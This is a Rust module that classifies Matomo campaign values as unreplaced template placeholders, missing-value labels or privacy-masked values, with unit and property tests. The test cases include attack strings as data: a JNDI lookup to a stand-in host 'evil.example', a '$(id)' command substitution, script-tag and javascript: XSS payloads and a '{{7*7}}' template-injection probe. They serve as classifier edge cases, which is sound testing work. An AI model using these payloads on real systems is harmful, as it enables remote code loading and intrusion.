//! Values that name no action: template placeholders that were sent as they are, and masked values.

use std::sync::LazyLock;

use regex::Regex;

use super::{constant_pattern, is_invisible, is_mark, percent_decode};

/// What Matomo stores instead of a campaign value when a privacy policy discards it.
pub const MASKED: &str = "__discarded_by_policy__";

/// What template engines and scripts print for a value that is missing, and Google Analytics' own labels.
const MISSING: [&str; 10] = [
    "(not set)",
    "(not provided)",
    "(none)",
    "(null)",
    "(undefined)",
    "[object object]",
    "undefined",
    "null",
    "nan",
    "%s",
];

/// One of these, or two underscores, is in every template that is known.
const SIGNS: &[u8] = b"{}[]<>%$#(*";

/// Field names that make `[name]` or `<name>` a placeholder. Brackets alone are not: `[newsletter]` is a name.
const FIELDS: [&str; 28] = [
    "ad",
    "ad_id",
    "ad_name",
    "adgroup",
    "adset_name",
    "campagne",
    "campaign",
    "campaign_id",
    "campaign_name",
    "campaignid",
    "campaignname",
    "content",
    "date",
    "insert_name",
    "keyword",
    "medium",
    "name",
    "nom",
    "nom_campagne",
    "nom_de_la_campagne",
    "source",
    "subject",
    "term",
    "utm_campaign",
    "utm_content",
    "utm_medium",
    "utm_source",
    "utm_term",
];

/// What is left of `%CAMPAIGN%`, `%DATE%`… when Matomo, decoding URLs, drops the `%CA` or `%DA` byte.
const MANGLED: [&str; 8] =
    ["mpaign%", "mpaign_id%", "mpaign_name%", "mpaignid%", "mpaignname%", "mpagne%", "te%", "tegory%"];

static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
    constant_pattern(concat!(
        r"\{\{[^{}]+\}\}+",                                 // Handlebars, Jinja, Brevo, LinkedIn
        r"|\{%[^{}]+%\}",                                   // Jinja, Twig
        r"|\[\[[^\[\]]+\]\]",                               // Mailjet
        r"|\*\|[^|*]+\|\*",                                 // Mailchimp
        r"|<%[^<>%]+%>",                                    // ERB, EJS
        r"|<<[^<>]+>>",                                     // Word
        r"|%%=[^%]+=%%",                                    // Salesforce's AMPscript
        r"|##[\w .-]+##",                                   // Tag Commander, mail merges
        r"|%%[=+]?[\w.: -]+%%",                             // Salesforce
        r"|%[A-Za-z_][\w.-]*%",                             // Sarbacane, Windows
        r"|[$#@]?\{[$!#%@=]?[A-Za-z_][\w .:|-]*[$!#%@]?\}", // shells, Google Ads, Smarty
        r"|[$#@]?\{[0-9]{1,2}\}",                           // format strings
    ))
});

/// Placeholders only when they are the whole value: TikTok's `__CAMPAIGN_NAME__`, `#campaign#`, `%1$s`.
static WHOLE: LazyLock<Regex> = LazyLock::new(|| {
    constant_pattern(
        r"^(?:__[A-Za-z][A-Za-z0-9_]*__|#[A-Za-z_]\w*#|\$[A-Za-z_]\w*\$|%[0-9]\$[sd]|%\([a-z_]+\)s)$",
    )
});

/// Whether the value is an unreplaced placeholder, as a whole or for the larger part.
pub fn is_placeholder(value: &str) -> bool {
    if is_masked(value) {
        return false;
    }
    // Most names hold no sign of any template, and are asked of often.
    let is_sign = |byte| SIGNS.contains(&byte);
    if !value.bytes().any(is_sign) && !value.contains("__") {
        // Only the words of `MISSING` are left, and they are short.
        let mut words = value.as_bytes().windows(3);
        let may_miss =
            words.any(|word| [b"und", b"nul", b"nan"].iter().any(|m| word.eq_ignore_ascii_case(*m)));
        return may_miss && is_missing(&plain(value));
    }
    let decoded = percent_decode(value);
    is_template(value) || (decoded != value && is_template(&decoded))
}

/// Whether Matomo discarded the value by policy.
pub fn is_masked(value: &str) -> bool {
    value.trim().eq_ignore_ascii_case(MASKED)
}

/// Whether the value names an action: visible, neither a placeholder nor masked.
pub fn is_usable(name: &str) -> bool {
    name.chars().any(is_visible) && !is_placeholder(name) && !is_masked(name)
}

fn is_visible(c: char) -> bool {
    !(c.is_whitespace() || c.is_control() || is_invisible(c) || is_mark(c))
}

/// Without what cannot be seen at its ends; in a query string a space is also `+`.
fn plain(value: &str) -> String {
    value.trim_matches(|c: char| !is_visible(c)).replace('+', " ").to_lowercase()
}

fn is_template(value: &str) -> bool {
    let value = plain(value);
    is_missing(&value)
        || is_bracketed_field(&value)
        || WHOLE.is_match(&value)
        || is_mostly_placeholder(&value)
}

/// `undefined`, or nothing else between separators: `undefined-undefined`.
fn is_missing(value: &str) -> bool {
    MISSING.contains(&value)
        || (value.contains(['-', '_', ' ', '|', '/'])
            && value
                .split(['-', '_', ' ', '|', '/'])
                .filter(|part| !part.is_empty())
                .map(|part| MISSING.contains(&part))
                .reduce(|all, one| all && one)
                .unwrap_or(false))
}

fn is_bracketed_field(value: &str) -> bool {
    let inside = value
        .strip_prefix('[')
        .and_then(|rest| rest.strip_suffix(']'))
        .or_else(|| value.strip_prefix('<').and_then(|rest| rest.strip_suffix('>')));
    inside.is_some_and(|field| FIELDS.contains(&field.trim().replace([' ', '-'], "_").as_str()))
}

/// A name may hold a placeholder and still say something (`newsletter-{{date}}`): it does when it has at
/// least as many letters and digits outside the placeholders as within.
fn is_mostly_placeholder(value: &str) -> bool {
    let mut inside = 0;
    let mut outside = 0;
    let mut end = 0;
    for hit in PLACEHOLDER.find_iter(value).filter(|hit| !is_escape(value, hit.range())) {
        inside += weight(hit.as_str());
        let (weighed, mangled) = rest(&value[end..hit.start()]);
        outside += weighed;
        inside += mangled;
        end = hit.end();
    }
    let (weighed, mangled) = rest(&value[end..]);
    outside + weighed < inside + mangled || is_mangled_alone(value)
}

/// `%c3%` and `50%off%` hold percent signs that open no placeholder.
fn is_escape(value: &str, hit: std::ops::Range<usize>) -> bool {
    let bytes = value.as_bytes();
    if bytes[hit.start] != b'%' || bytes[hit.end - 1] != b'%' {
        return false;
    }
    let hex_follows =
        bytes.get(hit.end..hit.end + 2).is_some_and(|next| next.iter().all(u8::is_ascii_hexdigit));
    let digit_before = hit.start > 0 && bytes[hit.start - 1].is_ascii_digit();
    hex_follows || digit_before
}

/// Letters and digits outside placeholders, and within those that Matomo mangled.
fn rest(text: &str) -> (usize, usize) {
    let (mut outside, mut mangled) = (0, 0);
    for part in text.split(['-', ' ', '|', '/', ':']) {
        if MANGLED.contains(&part) {
            mangled += weight(part);
        } else {
            outside += weight(part);
        }
    }
    (outside, mangled)
}

/// Any placeholder that starts with two hexadecimal digits is mangled alike (`%ADGROUP%` → `group%`). Nobody
/// ends a word with `%`, only a number (`-50%`), so as the whole value that is enough.
fn is_mangled_alone(value: &str) -> bool {
    value.strip_suffix('%').is_some_and(|word| {
        word.ends_with(char::is_alphabetic) && word.chars().all(|c| c.is_alphabetic() || c == '_')
    })
}

fn weight(text: &str) -> usize {
    text.chars().filter(|c| c.is_alphanumeric()).count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn placeholders() {
        for value in [
            "{{campaign}}",
            "{{campaign.name}}",
            "{{ campaign_name }}",
            "{{{campaign}}}",
            "{{7*7}}",
            "{% campaign %}",
            "[[x]]",
            "[[campaign]]",
            "%X%",
            "%CAMPAIGN%",
            "%email%",
            "%utm_source%-%utm_medium%",
            "%campaign%%date%",
            "%%emailname_%%",
            "mpaign%",
            "mpaign_name%",
            "te%",
            "group%",
            "_id%",
            "{campaign_name}",
            "{medium}",
            "{keyword:nom}",
            "{$campaign}",
            "{0}",
            "${source}",
            "#{source}",
            "*|campaign_uid|*",
            "<%= x %>",
            "##x##",
            "<<campagne>>",
            "%%=v(@campaign)=%%",
            "$campaign$",
            "#campaign#",
            "__CAMPAIGN_NAME__",
            "(not set)",
            "(not+set)",
            " (none) ",
            "Undefined",
            "undefined-undefined",
            "null",
            "NaN",
            "[object Object]",
            "[campaign]",
            "[Campaign Name]",
            "<campaign>",
            "%s",
            "%1$s",
            "%7b%7bcampaign%7d%7d",
            "%257B%257Bcampaign%257D%257D",
            "{{campaign}}-{{date}}",
            "nl-{{campaign.name}}",
            "fr-mpaign%",
            "mpaign%-te%",
            "ab-mpaign%-{{x}}",
            "\u{200b}{{x}}\n",
        ] {
            assert!(is_placeholder(value), "{value}");
            assert!(!is_usable(value), "{value}");
        }
    }

    #[test]
    fn names() {
        for value in [
            "promo-50%",
            "100%",
            "50%",
            "%",
            "%%",
            "{",
            "{}",
            "{{}}",
            "[]",
            "[lien](javascript:alert(1))",
            "c:\\windows",
            "%3cscript%3e",
            "%c3%a9t%c3%a9",
            "%c3%aate%20",
            "t%eate%20",
            "20%off%",
            "-20%-sur-tout-40%",
            "{\"a\":1}",
            "${jndi:ldap://evil.example/a}",
            "$(id)",
            "[newsletter]",
            "[email]",
            "<b>",
            "<script>alert(1)</script>",
            "newsletter-{{date}}",
            "newsletter-te%",
            "100 pour cent%",
            "true",
            "none",
            "nullement",
            "null-part",
            "nancy",
            "keyword not defined",
            "direct entry",
            "#promo",
            "c#",
            "rentree__2026",
            "a|b|c",
            "* puce",
            "-",
        ] {
            assert!(!is_placeholder(value), "{value}");
            assert!(is_usable(value), "{value}");
        }
    }

    #[test]
    fn masked_values_are_no_placeholders() {
        assert!(is_masked(MASKED) && is_masked("__Discarded_By_Policy__ "));
        assert!(!is_placeholder(MASKED));
        assert!(!is_usable(MASKED));
        assert!(!is_masked("discarded_by_policy"));
    }

    #[test]
    fn what_cannot_be_seen_names_nothing() {
        for value in ["", " ", "\u{a0}\t", "\u{200b}\u{feff}", "\0", "\u{301}"] {
            assert!(!is_usable(value), "{value:?}");
            assert!(!is_placeholder(value), "{value:?}");
        }
    }

    proptest! {
        #[test]
        fn any_text_is_answered(text: String, marks in "[a-z0-9%{}\\[\\]<>|*#$_ +-]{0,40}") {
            prop_assert!(!(is_placeholder(&text) && is_usable(&text)));
            prop_assert!(!(is_placeholder(&marks) && is_usable(&marks)));
        }
    }
}
